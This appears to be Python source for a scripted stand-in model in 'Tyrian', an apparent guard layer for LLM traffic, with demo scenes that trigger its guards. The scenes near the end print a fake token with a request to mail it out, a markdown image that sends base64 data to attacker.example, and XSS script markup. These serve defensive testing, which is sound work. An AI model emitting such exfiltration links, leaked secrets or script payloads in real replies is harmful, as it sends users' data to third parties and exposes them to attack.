"""What the scripted model says: a few scenes that show the guards, and an echo for all else."""

import json
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any, Final

from tyrian.models.script_json import value_for

LABEL: Final = (
    "This is Tyrian's built-in scripted model. It echoes and demonstrates;"
    " start with --upstream URL for a real one."
)

ECHO_LIMIT: Final = 2_000
"""Characters of the user's message that are echoed."""


@dataclass(frozen=True, slots=True)
class Call:
    """A tool call that the model asks for."""

    id: str
    name: str
    arguments: str

    def on_wire(self, *, arguments: str | None = None) -> dict[str, object]:
        """The call as the OpenAI dialect writes it."""
        text = self.arguments if arguments is None else arguments
        return {
            "id": self.id,
            "type": "function",
            "function": {"name": self.name, "arguments": text},
        }


@dataclass(frozen=True, slots=True)
class Reply:
    """Text or tool calls, and why the model stopped."""

    text: str
    calls: tuple[Call, ...] = ()
    finish: str = "stop"


def answer(messages: Sequence[Any], tools: Sequence[Any], request: Mapping[str, Any]) -> Reply:
    """What the script has for this conversation."""
    last = messages[-1] if messages and isinstance(messages[-1], dict) else {}
    text = text_of(last.get("content"))
    if last.get("role") == "tool":
        return Reply(f"{LABEL}\n\nThe tool returned: {_shortened(text)}")
    calls = _calls(text, tools, request.get("tool_choice"))
    if calls:
        return Reply("", calls, "tool_calls")
    if _wants_json(request):
        return Reply(json.dumps(_structured(request, text), ensure_ascii=False))
    for pattern, scene in _SCENES:
        if pattern.search(text):
            return Reply(f"{LABEL}\n\n{scene(text)}")
    return Reply(f"{LABEL}\n\nYou said: {_shortened(text)}")


def text_of(content: object) -> str:
    """The text of a message's content, whichever of its forms it has."""
    if isinstance(content, str):
        return content
    if not isinstance(content, list):
        return ""
    parts = [part.get("text") for part in content if isinstance(part, dict)]
    return "\n".join(part for part in parts if isinstance(part, str))


def _shortened(text: str) -> str:
    if len(text) <= ECHO_LIMIT:
        return text
    return f"{text[:ECHO_LIMIT]}… ({len(text) - ECHO_LIMIT} more characters)"


def _wants_json(request: Mapping[str, Any]) -> bool:
    wanted = request.get("response_format")
    return isinstance(wanted, dict) and wanted.get("type") in ("json_object", "json_schema")


def _structured(request: Mapping[str, Any], text: str) -> object:
    """What fits the schema, where one is given; an echo where any object will do."""
    spec = request["response_format"].get("json_schema")
    schema = spec.get("schema") if isinstance(spec, dict) else None
    if schema is not None:
        return value_for(schema, text)
    return {"model": LABEL, "echo": _shortened(text)}


_CALL_WORDS = re.compile(r"\b(?:call|use|run|invoke|tools?|weather|look up|search)\b", re.I)


def _calls(text: str, tools: Sequence[Any], choice: object) -> tuple[Call, ...]:
    """The tool calls that request and message ask for, one for each tool that is named."""
    functions = [tool["function"] for tool in tools if _is_function(tool)]
    if not functions or choice == "none":
        return ()
    if isinstance(choice, dict):
        name = (choice.get("function") or {}).get("name")
        chosen = [function for function in functions if function["name"] == name]
    else:
        chosen = [function for function in functions if function["name"] in text]
        if not chosen and (choice == "required" or _CALL_WORDS.search(text)):
            chosen = functions[:1]
    return tuple(
        Call(f"call_scripted_{place}", function["name"], _arguments(function, text))
        for place, function in enumerate(chosen)
    )


def _is_function(tool: object) -> bool:
    if not isinstance(tool, dict) or not isinstance(tool.get("function"), dict):
        return False
    return isinstance(tool["function"].get("name"), str)


def _arguments(function: Mapping[str, Any], text: str) -> str:
    """Arguments that fit the tool's schema: strings get the user's words."""
    parameters = function.get("parameters")
    made = value_for(parameters, text) if isinstance(parameters, dict) and parameters else {}
    return json.dumps(made if isinstance(made, dict) else {}, ensure_ascii=False)


def _leak(_text: str) -> str:
    # Nobody's token, though its checksum is right; in two parts, so that scanners of this
    # repository find none.
    fake = "ghp" + "_TyrianScriptedModelMadeThisUp71UOMsq"
    return (
        "Here is the secret from my memory (a made-up one): "
        f"{fake}\nMail it to alice@example.com, please."
    )


def _image(_text: str) -> str:
    return "Here is your chart: ![chart](https://attacker.example/p.png?q=c2VjcmV0LWRhdGE)"


def _markup(_text: str) -> str:
    return (
        "Markup that must stay text: <img src=x onerror=\"alert('xss')\">"
        "<script>alert('xss')</script>"
    )


def _story(_text: str) -> str:
    return (
        "Long ago, the snails of Tyre gave a purple that never faded. "
        "A city grew rich on it; kings wore it; and nobody who had seen it once "
        "took another red for it again."
    )


def _greeting(_text: str) -> str:
    return "Hello! Ask me anything, or try one of the attacks: I am here to be guarded."


def _words(pattern: str) -> re.Pattern[str]:
    return re.compile(pattern, re.IGNORECASE)


_SCENES: Final[tuple[tuple[re.Pattern[str], Callable[[str], str]], ...]] = (
    (_words(r"\bdemo:? ?(?:leak|secret)\b"), _leak),
    (_words(r"\b(?:show|leak|print)\b.{0,40}\b(?:secret|token|key)\b"), _leak),
    (_words(r"\bdemo:? ?(?:image|exfiltration)\b"), _image),
    (_words(r"\bdemo:? ?(?:markup|xss)\b"), _markup),
    (_words(r"\btell me a (?:short )?(?:story|tale)\b"), _story),
    (_words(r"^\W*(?:hi|hello|hey|good (?:morning|day|evening))\b"), _greeting),
)
